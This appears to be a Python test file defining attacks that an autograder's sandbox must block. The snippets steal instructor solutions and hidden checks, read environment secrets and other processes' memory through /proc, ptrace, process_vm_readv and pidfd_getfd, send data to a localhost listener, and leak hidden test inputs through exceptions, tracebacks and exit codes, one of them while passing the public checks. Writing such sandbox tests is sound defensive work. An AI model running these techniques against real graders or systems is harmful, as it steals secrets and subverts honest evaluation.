"""Steal: solutions, golden values, hidden inputs, secrets of the machine. What is stolen is sent home in a report."""

from tests.attacks.attack import (
    CALLS,
    FILES,
    LIBC,
    NOTHING,
    SILENCE,
    START,
    Attack,
)

RAISED = ("raised",)

PIECES = """
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
"""

ATTACKS = [
    Attack(
        "read the solution",
        "Opens the instructor's solution and sends it home in an exception.",
        (FILES,),
        "raise RuntimeError(open(COURSE + '/solutions/initialization/initialization.py').read())",
        statuses=RAISED,
    ),
    Attack(
        "read the golden values and the hidden checks",
        "Looks through the course's folders for whatever is there.",
        (FILES,),
        """
        import os
        found = []
        for place in ("/solutions/initialization/", "/assignments/initialization/"):
            paths = [COURSE + place + name for name in sorted(os.listdir(COURSE + place))]
            found += [open(path).read()[:700] for path in paths if os.path.isfile(path)]
        raise RuntimeError("".join(found))
        """,
        statuses=RAISED,
    ),
    Attack(
        "import the solution",
        "Puts the solution's folder on the path and imports it.",
        (FILES,),
        """
        import importlib.util
        path = COURSE + "/solutions/initialization/initialization.py"
        spec = importlib.util.spec_from_file_location("stolen", path)
        raise RuntimeError(spec.loader.get_source("stolen")[:700])
        """,
        statuses=RAISED,
    ),
    Attack(
        "read by other doors",
        "Reads a file with NumPy, with mmap and with a raw descriptor.",
        (FILES,),
        """
        import mmap, os
        def mapped(path):
            with open(path, "rb") as file:
                return mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:]
        doors = [lambda p: bytes(np.fromfile(p, np.uint8)), mapped, lambda p: os.read(os.open(p, os.O_RDONLY), 999)]
        for door in doors:
            try:
                stolen = door(FOLDER + "/canary.txt")
            except OSError:
                continue
            raise RuntimeError(stolen.decode())
        """,
    ),
    Attack(
        "read round the corner",
        "Reaches a file by way of /proc/self/root, dots, and a folder that is opened first.",
        (FILES,),
        """
        import os
        target = FOLDER + "/canary.txt"
        for path in ("/proc/self/root" + target, "/usr/lib/../.." + target, "/proc/self/cwd/" + target[1:]):
            try:
                raise RuntimeError(open(path).read())
            except OSError:
                pass
        folder = os.open(FOLDER, os.O_PATH)
        raise RuntimeError(os.read(os.open("canary.txt", os.O_RDONLY, dir_fd=folder), 999).decode())
        """,
        statuses=RAISED,
    ),
    Attack(
        "search the objects, frames and modules",
        "Looks for secrets in everything that Python holds: the collector, the frames above, all modules.",
        (NOTHING,),
        """
        import gc, re, sys
        frame, held = sys._getframe(), []
        while frame:
            held += [frame.f_locals, frame.f_globals]
            frame = frame.f_back
        held += [vars(m) for m in sys.modules.values() if hasattr(m, "__dict__")] + gc.get_objects()
        texts = (v for h in held if isinstance(h, dict) for v in list(h.values()) if isinstance(v, (str, bytes)))
        found = [t for t in texts if re.search("canary-[0-9a-f]{32}", str(t))]
        raise RuntimeError("".join(map(str, found))[:1500] or "nothing")
        """,
        statuses=RAISED,
    ),
    Attack(
        "search the memory from before the fork",
        "Reads the pages round Python's own objects for what the server may have held.",
        (NOTHING,),
        """
        import mmap, re
        middle = id(object()) // mmap.PAGESIZE
        for page in range(middle - 4000, middle + 4000):
            readable = libc("access")(ctypes.c_void_p(page * mmap.PAGESIZE), 0) == 0 or ctypes.get_errno() != EFAULT
            text = ctypes.string_at(page * mmap.PAGESIZE, mmap.PAGESIZE) if readable else b""
            if found := re.search(rb"canary-[0-9a-f]{32}", text):
                raise RuntimeError(found.group().decode())
        """,
        f"{LIBC}\nEFAULT = 14\n",
        statuses=("failed", "timeout"),  # it is a long search, and some machines take more than a second for it
    ),
    Attack(
        "read the environment",
        "Looks for tokens in the environment, in Python's copy and in the process's own.",
        (START,),
        """
        import os
        place = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ").value
        raw = ctypes.cast(place, ctypes.POINTER(ctypes.c_char_p)) if place else []
        names = [raw[n] for n in range(30) if raw and raw[n]] if place and raw[0] else []
        try:
            names.append(open("/proc/self/environ").read())
        except OSError:
            pass
        raise RuntimeError(f"{dict(os.environ)} {names}")
        """,
        LIBC,
        statuses=RAISED,
    ),
    Attack(
        "read another process's environment",
        "Reads /proc of the grader, of the server and of a process of the same user.",
        (FILES,),
        """
        import os
        found = []
        for process in (VICTIM, GRADER, os.getppid()):
            try:
                found.append(open(f"/proc/{process}/environ").read())
            except OSError:
                pass
        raise RuntimeError("".join(found)[:1500] or "nothing")
        """,
        statuses=RAISED,
    ),
    Attack(
        "read another process's memory through /proc",
        "Opens /proc/<pid>/mem of a process of the same user, and of the server.",
        (FILES,),
        """
        import os
        for process in (VICTIM, os.getppid(), GRADER):
            try:
                memory = os.open(f"/proc/{process}/mem", os.O_RDONLY)
                raise RuntimeError(os.pread(memory, SIZE, PLACE).decode("latin-1"))
            except OSError:
                pass
        """,
    ),
    Attack(
        "debug another process",
        "Attaches to a process of the same user with ptrace and reads its memory.",
        (CALLS, FILES),
        """
        import os, time
        trace = libc("ptrace")
        trace.restype = ctypes.c_long
        if trace(16, VICTIM, None, None) != 0:
            raise PermissionError
        time.sleep(0.05)
        words = [trace(2, VICTIM, ctypes.c_void_p(PLACE + n), None) for n in range(0, SIZE, 8)]
        trace(17, VICTIM, None, None)
        raise RuntimeError(b"".join((w % 2**64).to_bytes(8, "little") for w in words).decode("latin-1"))
        """,
        LIBC,
        statuses=RAISED,
    ),
    Attack(
        "read another process's memory at once",
        "Copies from a process of the same user with process_vm_readv.",
        (CALLS, FILES),
        """
        room = ctypes.create_string_buffer(SIZE)
        mine, theirs = Piece(ctypes.addressof(room), SIZE), Piece(PLACE, SIZE)
        if libc("process_vm_readv")(VICTIM, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) < 0:
            raise PermissionError
        raise RuntimeError(room.raw.decode("latin-1"))
        """,
        LIBC + PIECES,
        statuses=RAISED,
    ),
    Attack(
        "take another process's open file",
        "Copies a descriptor out of a process of the same user with pidfd_getfd.",
        (CALLS, FILES),
        """
        import os
        stolen = libc("syscall")(438, libc("syscall")(434, VICTIM, 0), HANDLE, 0)
        raise RuntimeError(os.pread(stolen, 999, 0).decode())
        """,
        LIBC,
        statuses=RAISED,
    ),
    Attack(
        "call home over TCP",
        "Connects to a listener and sends what it knows.",
        (CALLS, FILES),
        """
        import socket
        caller = socket.socket()
        caller.connect((b"127.0.0.1", PORT))
        caller.sendall(repr(args).encode())
        """,
        statuses=RAISED,
    ),
    Attack(
        "call home over UDP",
        "Sends a datagram, as a name look-up would.",
        (CALLS,),
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(repr(args).encode(), (b"127.0.0.1", DATAGRAMS))
        """,
        statuses=RAISED,
    ),
    Attack(
        "call a neighbour over a unix socket",
        "Connects to a socket by its path, as to docker.sock or an ssh agent.",
        (CALLS,),
        "import socket\nsocket.socket(socket.AF_UNIX).connect(FOLDER + '/docker.sock')",
        statuses=RAISED,
    ),
    Attack(
        "call a neighbour over an abstract socket",
        "Connects to a socket that has a name and no path.",
        (CALLS, FILES),
        "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0' + ABSTRACT)",
        statuses=RAISED,
    ),
    Attack(
        "hidden inputs in an exception's text",
        "Raises what it was asked, in the hope to read it in the report of a hidden check.",
        (SILENCE,),
        "raise ValueError('lea' + f'ked {args}')",
        statuses=RAISED,
    ),
    Attack(
        "hidden inputs in an exception's name",
        "Raises an exception whose class is named after what it was asked.",
        (SILENCE,),
        "raise type('lea' + f'ked {args}', (Exception,), {})",
        statuses=RAISED,
    ),
    Attack(
        "hidden inputs in what is printed",
        "Prints what it was asked.",
        (SILENCE,),
        "print('lea' + f'ked {args}')",
    ),
    Attack(
        "hidden inputs in the answer",
        "Returns what it was asked, as keys, texts and shapes that a message might quote.",
        (SILENCE,),
        "return {'lea' + f'ked {args}': np.ones(len(args[0]))}",
    ),
    Attack(
        "hidden inputs in the lines of a traceback",
        "Rewrites its own source lines, as the traceback shows them, to hold what it was asked.",
        (SILENCE,),
        """
        import linecache
        for file in list(linecache.cache):
            if "/" not in file:
                linecache.cache[file] = (1, None, ["lea" + f"ked {args}"] * 9999, file)
        raise ValueError
        """,
        statuses=RAISED,
    ),
    Attack(
        "hidden inputs in the names of a traceback",
        "Calls a function that is named after what it was asked, and raises in it.",
        (SILENCE,),
        """
        def fall():
            raise ValueError
        fall.__code__ = fall.__code__.replace(co_name="lea" + f"ked {args}")
        fall()
        """,
        statuses=RAISED,
    ),
    Attack(
        "hidden inputs in an exit code",
        "Is right on the public checks, and on hidden ones ends its process with a code that says what it was asked.",
        (SILENCE,),
        """
        import os
        sizes = args[0]
        if len(sizes) > 5:
            os._exit(200 + sizes[0])
        weights = {f"W{l}": np.zeros((sizes[l], sizes[l - 1])) for l in range(1, len(sizes))}
        return {**weights, **{f"b{l}": np.zeros((sizes[l], 1)) for l in range(1, len(sizes))}}
        """,
        statuses=("crashed",),
        score=2,
    ),
]
